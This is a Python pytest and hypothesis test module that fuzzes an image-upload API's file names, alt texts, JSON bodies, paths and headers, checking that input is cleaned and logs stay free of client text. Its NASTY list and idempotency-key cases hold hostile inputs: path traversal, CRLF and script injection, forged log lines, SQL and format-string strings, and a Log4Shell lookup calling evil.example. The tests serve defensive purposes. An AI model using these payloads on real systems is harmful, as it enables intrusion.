import base64
import json
import unicodedata
from collections.abc import Callable
from typing import Any
from urllib.parse import quote

import pytest
from hypothesis import given
from hypothesis import strategies as st

from domain.image import ProductImage
from domain.text import clean_file_name, clean_text
from domain.user import User
from handlers.problems import HttpResponse
from tests.builders import (
    IMAGE_PATH,
    IMAGES_PATH,
    PRODUCT_ID,
    TOKEN,
    a_ref,
    an_image,
    api_event,
    jpeg,
    json_event,
    upload_event,
)
from tests.forms import form, part, upload_form
from tests.unit.hostile_service import EXAMPLES, MANY_EXAMPLES, Service, problem

type Tried = Callable[[int], None]
type Capture = pytest.CaptureFixture[str]

hostile = pytest.mark.torture("hostile names and texts")

CONTENT = jpeg()
MARK = "confidential"
"""In every name and text that is sent, and never in a log."""
NASTY = [
    "../../../etc/passwd",
    "..\\..\\windows\\system32",
    "%2e%2e%2f%2e%2e%2fetc",
    "/media/43/1.jpg",
    "\0",
    "\r\n\r\n<script>alert(1)</script>",
    "\r\nSet-Cookie: a=b",
    '"}\n{"level":"ERROR","message":"forged"}',
    "\x1b[2J\x1b[31m",
    "\u202egpj.exe",
    "\u2066\u2069\u200e",
    "\u2028\u2029\x85",
    "e\u0301" * 40,
    "\U0001f468\u200d\U0001f469\u200d\U0001f467",
    "\U0001f45f" * 5_000,
    "a" * 5_000,
    "\u0301" * 5_000,
    "${jndi:ldap://evil.example/a}",
    "{}%s%n{0.__class__}",
    "' OR 1=1 --",
    "CON",
    ".",
    "\ufeff\ufffe\uffff\U0010ffff",
]
SENDABLE = st.lists(st.sampled_from(NASTY) | st.text(max_size=20), max_size=4).map("".join)
"""Texts that UTF-8 can carry."""
ANY = st.lists(st.sampled_from([*NASTY, "\ud800", "\udfff\ud83d"]) | st.text(st.characters(codec=None))).map(
    "".join
)
"""Texts as JSON can carry them: lone surrogates too."""


def assert_safe(text: str) -> None:
    assert unicodedata.is_normalized("NFC", text)
    assert not {unicodedata.category(character) for character in text} & {"Cc", "Cs", "Zl", "Zp"}
    assert not set("\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200b\u2060\ufeff") & set(text)


def assert_logs_tell_nothing(capsys: Capture) -> None:
    """Each line of the log is one record, and no record knows what the client wrote."""
    out, err = capsys.readouterr()
    assert err == ""
    *lines, end = out.split("\n")
    assert end == ""
    for line in lines:
        assert isinstance(json.loads(line), dict)
        assert line.isprintable()
        assert MARK not in line


def assert_headers_are_lines(response: HttpResponse) -> None:
    for value in response["headers"].values():
        assert value.isascii()
        assert value.isprintable()


def stored(service: Service) -> ProductImage:
    """Return the one picture, whose names are safe and whose key has none of them in it."""
    (image,) = service.catalog.images.values()
    assert_safe(image.name)
    assert_safe(image.details.alt_text)
    assert image.name
    assert len(image.name.encode()) <= 255
    assert not {"/", "\\"} & set(image.name)
    assert image.ref.incoming_key == f"incoming/{PRODUCT_ID}/{image.ref.image_id}-{TOKEN}"
    return image


def quoted(name: str) -> str:
    """Return a name as browsers write it (WHATWG HTML, multipart/form-data)."""
    return name.replace("\r", "%0D").replace("\n", "%0A").replace('"', "%22")


NAME_WRITERS: list[Callable[[str], str]] = [
    lambda name: f'filename="{quoted(name)}"',
    lambda name: f'filename="{quote(name, safe="")[:12_000]}"',
    lambda name: f"filename=\"a.jpg\"; filename*=UTF-8''{quote(name, safe='')[:12_000]}",
]


@hostile
@MANY_EXAMPLES
@given(name=SENDABLE, alt_text=SENDABLE, write=st.sampled_from(NAME_WRITERS))
def test_an_upload_keeps_a_name_and_a_text_clean_and_tells_no_log_of_them(
    tried: Tried, capsys: Capture, name: str, alt_text: str, write: Callable[[str], str]
) -> None:
    tried(EXAMPLES)
    service = Service()
    image = part(CONTENT, write(MARK + name), name="image")
    response = service.upload(upload_event(form(image, part((MARK + alt_text).encode(), name="alt_text"))))
    assert_headers_are_lines(response)
    assert_logs_tell_nothing(capsys)
    if response["statusCode"] == 201:
        kept = stored(service)
        assert kept.details.alt_text == clean_text(MARK + alt_text)
        assert service.store.keys == [kept.ref.incoming_key]
        body = json.loads(response["body"])
        assert (body["name"], body["description"]) == (kept.name, kept.details.alt_text)
    else:
        # Longer than a form may be in its headers or its texts.
        assert problem(response)[0] == 400
        header = write(name)
        is_long = len(header) > 16_000 or len(header.encode()) > 32_000
        assert is_long or len((MARK + alt_text).replace("\r\n", "\n")) > 1_000
        assert (service.catalog.images, service.store.given) == ({}, [])


@hostile
@pytest.mark.parametrize("name", NASTY)
def test_a_name_is_cleaned_the_same_whichever_way_it_is_written(name: str) -> None:
    names = set()
    for write in NAME_WRITERS[:1] if len(quote(name)) > 12_000 else NAME_WRITERS:
        service = Service()
        service.take(upload_event(form(part(CONTENT, write(MARK + name), name="image"))), CONTENT)
        names.add(stored(service).name)
    assert names == {clean_file_name(MARK + name) or "image.jpg"}


@hostile
@pytest.mark.parametrize("character", ["a", "\u00e9", "\u978b", "\U0001f45f", "e\u0301"])
def test_a_name_of_5_000_characters_is_cut_to_255_bytes_at_a_character(character: str) -> None:
    service = Service()
    service.take(upload_event(upload_form(CONTENT, character * 5_000)), CONTENT)
    composed = unicodedata.normalize("NFC", character)
    assert stored(service).name == composed * (255 // len(composed.encode()))


# One more; and two that NFC writes as two and as three characters each.
TOO_LONG = ("x" * 1_001, "\u0958" * 501, "\U0001d160" * 334)
LONGEST = "\U0001f45f" * 1_000


@hostile
@pytest.mark.parametrize(
    "send",
    [
        lambda service, text: service.upload(upload_event(upload_form(CONTENT, alt_text=text))),
        lambda service, text: service.reserve(
            json_event("POST", f"{IMAGES_PATH}/uploads", {"name": "a.jpg", "size": 1, "alt_text": text})
        ),
        lambda service, text: service.gallery(
            json_event("PATCH", IMAGE_PATH, {"alt_text": text}, image_id=9)
        ),
    ],
    ids=["form", "announcement", "change"],
)
def test_a_text_of_1_000_characters_is_kept_whole_and_a_longer_one_refused_on_every_route(
    send: Callable[[Service, str], HttpResponse],
) -> None:
    service = Service()
    service.catalog.reserve(an_image(ref=a_ref(9)))
    assert json.loads(send(service, LONGEST)["body"])["alt_text"] == LONGEST
    for text in TOO_LONG:
        refused = send(service, text)
        assert problem(refused) == (400, "invalid_fields")
        assert [fault["field"] for fault in json.loads(refused["body"])["errors"]] == ["alt_text"]


@hostile
@MANY_EXAMPLES
@given(name=ANY, alt_text=ANY)
def test_a_reservation_keeps_a_name_and_a_text_clean_and_tells_no_log_of_them(
    tried: Tried, capsys: Capture, name: str, alt_text: str
) -> None:
    tried(EXAMPLES)
    service = Service()
    announced = {
        "name": MARK + name,
        "size": 1,
        "content_type": "image/jpeg",
        "alt_text": MARK + alt_text,
    }
    response = service.reserve(json_event("POST", f"{IMAGES_PATH}/uploads", announced))
    assert_headers_are_lines(response)
    assert_logs_tell_nothing(capsys)
    if response["statusCode"] == 201:
        assert stored(service).details.alt_text == clean_text(MARK + alt_text)
        assert json.loads(response["body"])["upload"]["fields"]["key"] == f"incoming/42/1-{TOKEN}"
    else:
        assert problem(response)[0] in {400, 413}
        assert service.catalog.images == {}


@hostile
@MANY_EXAMPLES
@given(alt_text=ANY, more=st.dictionaries(ANY, ANY | st.integers() | st.floats() | st.none(), max_size=2))
def test_a_change_keeps_a_text_clean_and_tells_no_log_of_it(
    tried: Tried, capsys: Capture, alt_text: str, more: dict[str, object]
) -> None:
    tried(EXAMPLES)
    service = Service()
    service.catalog.reserve(an_image())
    changes = {MARK + name: value for name, value in more.items()} | {"alt_text": MARK + alt_text}
    response = service.gallery(json_event("PATCH", IMAGE_PATH, changes, image_id=1))
    assert_headers_are_lines(response)
    assert_logs_tell_nothing(capsys)
    if response["statusCode"] == 200:
        assert stored(service).details.alt_text == clean_text(MARK + alt_text)
    else:
        assert problem(response)[0] in {400, 413}
        for fault in json.loads(response["body"]).get("errors", []):
            assert_safe(fault["field"])
        assert stored(service) == an_image()


JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | ANY | st.just(10**4_000),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(ANY, inner, max_size=3),
    max_leaves=5,
)
FIELDS = st.sampled_from(
    ["name", "size", "content_type", "alt_text", "is_primary", "order", "sha256", "image_ids"]
)
type Function = Callable[[Service], Callable[[dict[str, Any]], HttpResponse]]

ROUTES: list[tuple[str, str, Function]] = [
    ("POST", f"{IMAGES_PATH}/uploads", lambda service: service.reserve),
    ("PATCH", IMAGE_PATH, lambda service: service.gallery),
    ("PUT", f"{IMAGES_PATH}/order", lambda service: service.gallery),
]


def a_json_event(method: str, resource: str) -> dict[str, Any]:
    event = json_event(method, resource, {}, image_id=1)
    if "{image_id}" not in resource:
        del event["pathParameters"]["image_id"]
    return event


@hostile
@MANY_EXAMPLES
@given(
    route=st.sampled_from(ROUTES),
    text=st.dictionaries(FIELDS, JSON, max_size=4).map(json.dumps) | JSON.map(json.dumps) | ANY,
    is_base64=st.booleans(),
)
def test_whatever_a_json_body_holds_it_is_no_fault_of_ours(
    tried: Tried,
    capsys: Capture,
    route: tuple[str, str, Function],
    text: str,
    is_base64: bool,
) -> None:
    tried(EXAMPLES)
    method, resource, function = route
    service = Service()
    service.catalog.reserve(an_image())
    event = a_json_event(method, resource)
    if is_base64:
        text = base64.b64encode(text.encode(errors="surrogatepass")).decode()
    response = function(service)(event | {"body": text, "isBase64Encoded": is_base64})
    assert response["statusCode"] in (200, 201, 400, 413), response["body"]
    assert_headers_are_lines(response)
    assert_logs_tell_nothing(capsys)


@hostile
@pytest.mark.parametrize(("method", "resource", "function"), ROUTES)
@pytest.mark.parametrize(
    ("body", "is_base64"),
    [
        pytest.param("!", True, id="no base64"),
        pytest.param("\u00e9", True, id="base64 beyond ASCII"),
        pytest.param("/w==", True, id="no UTF-8"),
        pytest.param("\ud800", False, id="a lone surrogate"),
        pytest.param('{"alt_text": "\ud800"}', False, id="a lone surrogate in a text"),
        pytest.param('{"alt_text": "\\ud800"}', False, id="a lone surrogate as an escape"),
        pytest.param("[" * 60_000, False, id="deep"),
        pytest.param("1" * 60_000, False, id="a long number"),
        pytest.param("\0", False, id="NUL"),
        pytest.param("", False, id="nothing"),
    ],
)
def test_a_body_that_is_no_json_is_refused(
    method: str,
    resource: str,
    function: Function,
    body: str,
    is_base64: bool,
) -> None:
    event = a_json_event(method, resource)
    answer = problem(function(Service())(event | {"body": body, "isBase64Encoded": is_base64}))
    # Text that no UTF-8 can carry is a fault of the field `body`.
    assert answer in [(400, "malformed_body"), (400, "invalid_fields")]


@hostile
@MANY_EXAMPLES
@given(product_id=ANY.map(MARK.__add__) | st.integers().map(str) | st.text("0123456789\u0663\uff11 +-_."))
def test_whatever_a_path_holds_only_an_identifier_is_taken(
    tried: Tried, capsys: Capture, product_id: str
) -> None:
    tried(EXAMPLES)
    service = Service()
    response = service.upload(upload_event(upload_form(CONTENT), product_id=product_id))
    assert_headers_are_lines(response)
    assert_logs_tell_nothing(capsys)
    if response["statusCode"] == 201:
        assert product_id == str(PRODUCT_ID)
    else:
        is_identifier = product_id.isascii() and product_id.isdecimal() and product_id[0] != "0"
        expected = 404 if is_identifier and int(product_id) < 2**53 else 400
        assert problem(response)[0] == expected


@hostile
@MANY_EXAMPLES
@given(headers=st.dictionaries(st.sampled_from(["Origin", "If-Match", "If-None-Match", "Accept"]) | ANY, ANY))
def test_whatever_headers_hold_they_change_no_answer_to_a_fault_of_ours(
    tried: Tried, capsys: Capture, headers: dict[str, str]
) -> None:
    tried(EXAMPLES)
    service = Service()
    service.catalog.reserve(an_image())
    path = {"product_id": PRODUCT_ID, "image_id": 1}
    sent = {name: MARK + value for name, value in headers.items()}
    for method in ("GET", "PATCH"):
        headers = {**sent, "Content-Type": "application/json"}
        response = service.gallery(api_event(method, IMAGE_PATH, path=path, headers=headers, body="{}"))
        assert response["statusCode"] in ((200, 304) if method == "GET" else (200, 400, 412))
        assert_headers_are_lines(response)
    service.gallery(api_event("GET", IMAGES_PATH, path={"product_id": "no"}, query=sent))
    assert_logs_tell_nothing(capsys)


@hostile
@MANY_EXAMPLES
@given(key=ANY.filter(lambda key: not (key.isascii() and key.isprintable() and " " not in key)))
def test_an_idempotency_key_that_is_not_visible_ascii_is_refused_and_not_logged(
    tried: Tried, capsys: Capture, key: str
) -> None:
    tried(EXAMPLES)
    event = upload_event(upload_form(CONTENT), headers={"Idempotency-Key": MARK + key})
    assert Service().refuse(event) == (400, "invalid_fields")
    assert_logs_tell_nothing(capsys)


@hostile
@pytest.mark.parametrize(
    "key", ['"}{"level":"ERROR"}', "../../x", "${jndi:ldap://evil.example/a}", "#7#", "%00%0d%0a"]
)
def test_an_idempotency_key_is_opaque(capsys: Capture, key: str) -> None:
    service = Service()
    event = upload_event(upload_form(CONTENT), headers={"Idempotency-Key": MARK + key})
    service.take(event, CONTENT)
    assert service.upload(event)["headers"]["Idempotency-Replayed"] == "true"
    assert len(service.store.given) == 1
    assert_logs_tell_nothing(capsys)


@hostile
@MANY_EXAMPLES
@given(username=ANY, full_name=ANY, request_id=SENDABLE)
def test_whoever_the_user_is_the_log_stays_one_record_a_line(
    tried: Tried, capsys: Capture, username: str, full_name: str, request_id: str
) -> None:
    tried(EXAMPLES)
    service = Service()
    event = upload_event(upload_form(CONTENT), user=User(7, MARK + username, MARK + full_name))
    event["requestContext"]["extendedRequestId"] = request_id
    response = service.upload(event)
    assert response["statusCode"] == 201
    assert_headers_are_lines(response)
    for line in capsys.readouterr().out.removesuffix("\n").split("\n"):
        assert isinstance(json.loads(line), dict)
        assert MARK not in line
